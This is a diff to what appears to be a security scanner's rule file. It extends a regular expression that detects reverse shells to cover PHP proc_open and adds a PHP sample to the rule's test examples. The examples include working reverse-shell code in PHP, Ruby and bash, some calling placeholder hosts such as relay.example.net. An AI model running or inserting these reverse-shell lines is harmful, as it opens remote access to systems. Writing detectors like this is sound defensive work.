@@ -387,7 +387,7 @@ const SOCAT_EXEC = /\bsocat\b[^\n]{0,160}\b(?:exec|system):[^\n]{0,40}\b(?:(?:ba
 const TELNET_SHELL = /\btelnet\s+\S+\s+\d+\s*\|\s*(?:\/bin\/)?(?:ba)?sh\b/gi;
 const SOCKET_DUP2 = /\bos\.dup2\s*\(\s*\w+(?:\.fileno\(\))?\s*,\s*(?:[012]|\w+)\s*\)/g;
 // Ruby, Perl and PHP: stdio reopened on a socket, or a shell spawned with the socket as its stdio.
-const STDIO_ON_SOCKET = /\$?(?:std(?:in|out|err)|STD(?:IN|OUT|ERR))\.reopen\s*\(\s*\w+|\[\s*\$std\w+\s*,[^\]\n]{0,60}\]\s*\.each\s*\{[^}\n]{0,80}\breopen\s*\(|\bopen\s*\(\s*STD(?:IN|OUT|ERR)\s*,\s*["']?[>&]{1,3}/g;
+const STDIO_ON_SOCKET = /\bproc_open\s*\(\s*["'][^"'\n]{0,40}\bsh\b[^"'\n]{0,20}["']\s*,\s*(?:\[|array\s*\()\s*0\s*=>\s*\$\w+|\$?(?:std(?:in|out|err)|STD(?:IN|OUT|ERR))\.reopen\s*\(\s*\w+|\[\s*\$std\w+\s*,[^\]\n]{0,60}\]\s*\.each\s*\{[^}\n]{0,80}\breopen\s*\(|\bopen\s*\(\s*STD(?:IN|OUT|ERR)\s*,\s*["']?[>&]{1,3}/g;
 const SOCKET_OPEN = /\bTCPSocket\.(?:open|new)\s*\(|\bsocket\s*\(\s*S\b|\bfsockopen\s*\(|\bIO::Socket::INET\b/;
 const SHELL_AFTER = /\b(?:exec|system|spawn|proc_open)\s*\(?\s*["'](?:\/bin\/)?(?:ba|z|da)?sh\b/;
 const SPAWN_SHELL = /\bpty\.spawn\s*\(|["'](?:\/bin\/|\/usr\/bin\/)?(?:ba|z|da)?sh["']\s*,\s*["']-i["']|\[\s*["'](?:\/bin\/|\/usr\/bin\/)?(?:ba|z|da)?sh["']|["']cmd(?:\.exe)?["']|["']\/bin\/(?:ba|z)?sh(?:\s+-i)?["']/;
@@ -1225,6 +1225,7 @@ export const rules: Rule[] = [
     negatable: false,
     examples: {
       match: [
+        { path: 'check.php', text: '<?php\n$s = fsockopen("203.0.113.9", 4443);\n$p = proc_open("/bin/sh -i", [0 => $s, 1 => $s, 2 => $s], $pipes);\n' },
         { path: 'scripts/pair.rb', text: "require 'socket'\ns = TCPSocket.open(RELAY, PORT)\n[$stdin, $stdout, $stderr].each { |io| io.reopen(s) }\nexec('/bin/sh -i')\n" },
         { path: 'scripts/attach.sh', text: 'nohup bash -c "bash -i >& /dev/tcp/${SUPPORT_HOST}/${SUPPORT_PORT} 0>&1" >/dev/null 2>&1 &\n' },
         "```bash\nbash -i >& /dev/tcp/relay.example.net/9001 0>&1\n```",
